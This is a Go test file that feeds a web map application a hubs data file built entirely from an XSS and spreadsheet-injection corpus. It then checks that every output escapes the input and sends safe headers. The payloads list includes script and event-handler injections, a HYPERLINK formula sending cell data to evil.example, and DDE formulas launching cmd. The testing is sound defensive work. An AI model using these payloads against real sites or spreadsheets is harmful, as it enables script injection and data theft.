package faulttest

import (
	"bytes"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"image/png"
	"io"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"go.yaml.in/yaml/v3"
)

// payloads is the XSS corpus put into every text field of a hubs file.
// Each would run script if it reached a page, an SVG or a spreadsheet
// unescaped: it sets window.__xss (or parent.__xss), calls alert, changes
// document.title to XSS…, or is a formula. Every one is valid data (at
// most 200 bytes, no control or bidirectional characters), so the loader
// takes them all.
var payloads = []string{
	`<script>window.__xss=1;alert(1)</script>`,
	`"><img src=x onerror="window.__xss=2;alert(2)">`,
	`'><svg onload=window.__xss=3;alert(3)>`,
	`javascript:window.__xss=4;alert(4)`,
	`<a href="javascript:window.__xss=5">five</a>`,
	`<svg><foreignObject><iframe srcdoc="<script>parent.__xss=6</script>"></iframe></foreignObject></svg>`,
	`<style>@import 'javascript:window.__xss=7';body{background:url("javascript:window.__xss=7")}</style>`,
	`x" style="width:expression(window.__xss=8);background:url(javascript:window.__xss=8)`,
	`]]><script>window.__xss=9</script><![CDATA[`,
	`</title><script>document.title="XSS10"</script>`,
	`<!--<img src="--><img src=x onerror=window.__xss=11//">`,
	`{{constructor.constructor('window.__xss=12')()}} ${window.__xss=12}`,
	`&lt;script&gt;window.__xss=13&lt;/script&gt; &amp; &#60;b&#62;`,
	"＜script＞window.__xss=14＜/script＞ ‹img› \u2028x\u2029 e\u0301 <scr\u200bipt>window.__xss=14</scr\u200bipt>",
	`<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=15>`,
	`<svg><animate onbegin=window.__xss=16 attributeName=x dur=1s>`,
	`<svg><set attributeName=onmouseover to=window.__xss=17>`,
	`<object data="data:text/html,<script>parent.__xss=18</script>">`,
	`<base href="//evil.example/"><meta http-equiv="refresh" content="0;url=javascript:window.__xss=19">`,
	`<img src=x onerror=&#x61;lert(20)>`,
	`<IMG SRC=JaVaScRiPt:window.__xss=21>`,
	`\"};window.__xss=22;//`,
	`</script><script>window.__xss=23</script>`,
	`<div data-x="</div><img src=x onerror=window.__xss=24>">`,
	`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='window.__xss=25'/></svg>#x"/>`,
	`=HYPERLINK("http://evil.example/?"&A1,"Click")`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`𝓧𝓢𝓢 🧨 مرحبا 中文<b>粗</b> ﷽`,
}

// titlePayload goes in the title= parameter of maps and exports, the one
// text of a request that reaches drawn output.
const titlePayload = `<script>window.__xss=30</script>"><img src=x onerror=alert(30)> ) /OpenAction`

// xssData is where the corpus went in the hubs file xssHubs writes.
type xssData struct {
	path                   string
	meta                   []string // the file's title, source, licence and date
	nouns                  []string // what it says it lists, in English and Chinese
	industries, categories []string // names in both languages
	names, namesZH         []string // the hubs'
}

// xssHubs writes a hubs file whose every text (file title, source, licence
// and date, industry and category names and keywords, hub names, cities,
// descriptions and products in both languages, the nouns the dashboard's
// counts take) is a payload, on the 26 places of the embedded hubs.
func xssHubs(t testing.TB) xssData {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(root, "assets", "data", "hubs.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	var embedded struct {
		Hubs []struct {
			ID, Province string
			Lon, Lat     float64
		}
	}
	if err := yaml.Unmarshal(b, &embedded); err != nil {
		t.Fatal(err)
	}
	k := 0
	next := func(into *[]string) string {
		s := payloads[k%len(payloads)]
		k++
		if into != nil {
			*into = append(*into, s)
		}
		return s
	}
	var x xssData
	doc := map[string]any{
		"title": next(&x.meta), "source": next(&x.meta), "license": next(&x.meta), "date": next(&x.meta),
		"noun": next(&x.nouns), "noun_zh": next(&x.nouns),
	}
	var industries, categories, hubs []map[string]any
	colors := []string{"#332288", "#88ccee", "#44aa99"}
	for i := range 3 {
		industries = append(industries, map[string]any{"id": fmt.Sprintf("ind-%d", i), "name": next(&x.industries), "name_zh": next(&x.industries), "color": colors[i]})
	}
	for i := range 6 {
		categories = append(categories, map[string]any{"id": fmt.Sprintf("cat-%d", i), "name": next(&x.categories), "name_zh": next(&x.categories),
			"industry": fmt.Sprintf("ind-%d", i%3), "keywords": []string{fmt.Sprintf("kw%d", i), next(nil)}})
	}
	for i, h := range embedded.Hubs {
		name := payloads[i%len(payloads)]
		x.names = append(x.names, name)
		hubs = append(hubs, map[string]any{
			"id": h.ID, "province": h.Province, "lon": h.Lon, "lat": h.Lat, "rank": i + 1,
			"name": name, "name_zh": next(&x.namesZH), "city": next(nil), "description": next(nil),
			"url": "https://example.com/?q=%3Cscript%3E#javascript:alert(1)",
			"specialties": []map[string]any{
				{"product": next(nil), "product_zh": next(nil), "category": fmt.Sprintf("cat-%d", i%6), "description": next(nil)},
				{"product": next(nil), "product_zh": next(nil), "category": fmt.Sprintf("cat-%d", (i+1)%6)},
			},
		})
	}
	doc["industries"], doc["categories"], doc["hubs"] = industries, categories, hubs
	y, err := yaml.Marshal(doc)
	if err != nil {
		t.Fatal(err)
	}
	x.path = filepath.Join(t.TempDir(), "xss-hubs.yaml")
	if err := os.WriteFile(x.path, y, 0o644); err != nil {
		t.Fatal(err)
	}
	return x
}

// checkHeaders: every response says what it is and forbids sniffing.
func checkHeaders(t *testing.T, what string, r reply, typ string) {
	t.Helper()
	if r.err != nil || r.status != 200 {
		t.Fatalf("%s: status %d, %v: %.300s", what, r.status, r.err, r.body)
	}
	if ct := r.header.Get("Content-Type"); !strings.HasPrefix(ct, typ) {
		t.Errorf("%s: Content-Type %q, want %s", what, ct, typ)
	}
	if r.header.Get("X-Content-Type-Options") != "nosniff" {
		t.Errorf("%s: no X-Content-Type-Options: nosniff", what)
	}
	if !utf8.Valid(r.body) && !strings.HasPrefix(typ, "image/png") && !strings.HasPrefix(typ, "application/pdf") && !strings.Contains(typ, "spreadsheet") {
		t.Errorf("%s: not valid UTF-8", what)
	}
}

// TestXSSOutputs serves a hubs file made of the XSS corpus and fetches
// every output: the page (three languages, the embed, a reflected search),
// map.svg and export.svg (with a hostile title), the JSON API, GeoJSON,
// CSV, XLSX, PNG and PDF, and the same for a visitor's preview upload
// under a hostile file name. Each is checked for escaping in its own
// language and for the data being there as text.
func TestXSSOutputs(t *testing.T) {
	x := xssHubs(t)
	p := startServe(t, nil, "--hubs", x.path)
	c := newClient(2, 60*time.Second)
	fetch := func(path, typ string) reply {
		t.Helper()
		r := get(c, p.base+path, false)
		checkHeaders(t, "/"+path, r, typ)
		return r
	}
	names := x.names
	both := append(slices.Clone(x.names), x.namesZH...)
	title := url.QueryEscape(titlePayload)

	// The page, its embed, and a search reflected into it.
	for _, c := range []struct {
		path string
		want []string
	}{
		{"?lang=en", append(append(slices.Clone(names), x.meta...), x.nouns[0])},
		{"?lang=zh", append(slices.Clone(x.namesZH), x.nouns[1])},
		{"?lang=both", append(slices.Clone(both), x.industries...)},
		{"embed?lang=both", nil},
		{"?lang=both&q=" + url.QueryEscape(payloads[0]), payloads[:1]}, // the search box keeps what was typed
		{"?category=cat-1&lang=both", x.categories[2:4]},
	} {
		r := fetch(c.path, "text/html")
		report(t, "/"+c.path, checkHTML(r.body, c.want))
		if csp := r.header.Get("Content-Security-Policy"); !strings.Contains(csp, "script-src 'self'") || strings.Contains(csp, "'unsafe-inline'") {
			t.Errorf("/%s: CSP %q", c.path, csp)
		}
	}

	// SVG: maps in both languages with products, a province, a zoom box,
	// and the export with a hostile title.
	for _, c := range []struct {
		path string
		want []string
	}{
		{"map.svg?lang=both&products=on", both},
		{"map.svg?lang=zh", x.namesZH},
		{"map.svg?province=CN-GD&lang=both", nil},
		{"map.svg?bbox=112,21,118,26&lang=both", nil},
		{"export.svg?lang=both&title=" + title, append(slices.Clone(both), titlePayload)},
	} {
		r := fetch(c.path, "image/svg+xml")
		if csp := r.header.Get("Content-Security-Policy"); !strings.Contains(csp, "sandbox") || !strings.Contains(csp, "default-src 'none'") {
			t.Errorf("/%s: CSP %q: an SVG must be sandboxed", c.path, csp)
		}
		if cd := r.header.Get("Content-Disposition"); strings.ContainsAny(cd, "<>\\") {
			t.Errorf("/%s: Content-Disposition %q", c.path, cd)
		}
		report(t, "/"+c.path, checkSVG(r.body, c.want))
	}

	// The JSON API and GeoJSON.
	for _, c := range []struct {
		path, typ string
		want      []string
	}{
		{"api/hubs?lang=both", "application/geo+json", both},
		{"api/categories", "application/json", x.categories},
		{"api/provinces", "application/json", nil},
		{"api/view?width=960&height=720&lang=both", "application/json", nil},
		{"download.geojson", "application/geo+json", both},
		{"healthz", "application/json", x.meta},
	} {
		r := fetch(c.path, c.typ)
		report(t, "/"+c.path, checkJSON(r.body, c.want))
	}

	// CSV and XLSX: no cell a spreadsheet reads as a formula or a link.
	r := fetch("download.csv", "text/csv")
	rows, ps := checkCSV(r.body, both)
	report(t, "/download.csv", ps)
	if len(rows) != 27 {
		t.Errorf("/download.csv: %d rows, want a header and 26 hubs", len(rows))
	}
	r = fetch("download.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
	report(t, "/download.xlsx", checkXLSX(r.body, both))

	// PNG: a PNG whatever the title, named safely.
	r = fetch("export.png?width=480&height=360&lang=both&title="+title, "image/png")
	if _, err := png.Decode(bytes.NewReader(r.body)); err != nil {
		t.Errorf("/export.png: %v", err)
	}
	if cd := r.header.Get("Content-Disposition"); strings.ContainsAny(cd, "<>\\") {
		t.Errorf("/export.png: Content-Disposition %q", cd)
	}

	// PDF: the texts are there as text, and nothing in it acts. Labels are
	// checked for the corpus the embedded fonts can write (Latin and CJK),
	// among those the same map as SVG draws: a map with no room for every
	// name (nor for a key of them that hides no marker) names what fits.
	r = fetch("export.pdf?lang=both&title="+title, "application/pdf")
	drawn := svgDrawnText(t, fetch("export.svg?lang=both&title="+title, "image/svg+xml").body)
	var drawable []string
	for _, n := range both {
		if !strings.ContainsAny(n, "𝓧🧨م﷽\u2028\u200b") && strings.Contains(drawn, strings.Join(strings.Fields(n), "")) {
			drawable = append(drawable, n)
		}
	}
	if len(drawable) < 5 {
		t.Errorf("/export.pdf: %d of the hostile names drawn, want at least 5: the PDF's labels would go unchecked", len(drawable))
	}
	if ps, ok := checkPDF(r.body, titlePayload, append(drawable, titlePayload)); !ok {
		if os.Getenv("CI") != "" {
			t.Error("pdftotext not installed: .ci/run must apt-get install poppler-utils")
		}
		t.Log("pdftotext not installed (Debian package poppler-utils): the PDF's text is not checked")
	} else {
		report(t, "/export.pdf", ps)
	}

	// A visitor's preview of the same file under a hostile name: the
	// answer, and the page, map and download drawn from it.
	data, err := os.ReadFile(x.path)
	if err != nil {
		t.Fatal(err)
	}
	const fileName = `"><img src=x onerror=alert(31)>.yaml`
	res, err := c.Post(p.base+"api/preview?name="+url.QueryEscape(fileName), "application/yaml", bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(res.Body)
	res.Body.Close()
	var pv struct{ Token string }
	if res.StatusCode != http.StatusCreated || json.Unmarshal(body, &pv) != nil || pv.Token == "" {
		t.Fatalf("/api/preview: %d: %.300s", res.StatusCode, body)
	}
	report(t, "/api/preview", checkJSON(body, []string{fileName}))
	r = fetch("?lang=both&preview="+pv.Token, "text/html")
	report(t, "/?preview", checkHTML(r.body, append(slices.Clone(both), x.meta[0])))
	r = fetch("map.svg?lang=both&products=on&preview="+pv.Token, "image/svg+xml")
	report(t, "/map.svg?preview", checkSVG(r.body, both))
	r = fetch("download.csv?preview="+pv.Token, "text/csv")
	_, ps = checkCSV(r.body, both)
	report(t, "/download.csv?preview", ps)

	// And one the server refuses: its problems quote the payloads, as JSON.
	bad := "id,name,province,lat,lon,products,categories\nx1," + csvQuote(payloads[1]) + "," + csvQuote(payloads[0]) + ",23.0,113.7,Dolls,toys\n"
	res, err = c.Post(p.base+"api/preview?name="+url.QueryEscape(`<svg onload=alert(32)>.csv`), "text/csv", strings.NewReader(bad))
	if err != nil {
		t.Fatal(err)
	}
	body, _ = io.ReadAll(res.Body)
	res.Body.Close()
	if res.StatusCode != http.StatusUnprocessableEntity || !strings.HasPrefix(res.Header.Get("Content-Type"), "application/json") {
		t.Errorf("/api/preview of a bad file: %d %s: %.300s", res.StatusCode, res.Header.Get("Content-Type"), body)
	}
	report(t, "/api/preview (refused)", checkJSON(body, []string{`<svg onload=alert(32)>.csv`}))
}

// svgDrawnText returns the text an SVG draws (the content of its text
// elements, not its attributes), in document order, without white space.
func svgDrawnText(t *testing.T, body []byte) string {
	t.Helper()
	d := xml.NewDecoder(bytes.NewReader(body))
	var b strings.Builder
	depth := 0
	for {
		tok, err := d.Token()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatalf("SVG: %v", err)
		}
		switch tok := tok.(type) {
		case xml.StartElement:
			if tok.Name.Local == "text" || depth > 0 {
				depth++
			}
		case xml.EndElement:
			if depth > 0 {
				depth--
			}
		case xml.CharData:
			if depth > 0 {
				b.WriteString(strings.Join(strings.Fields(string(tok)), ""))
			}
		}
	}
	return b.String()
}

func csvQuote(s string) string { return `"` + strings.ReplaceAll(s, `"`, `""`) + `"` }
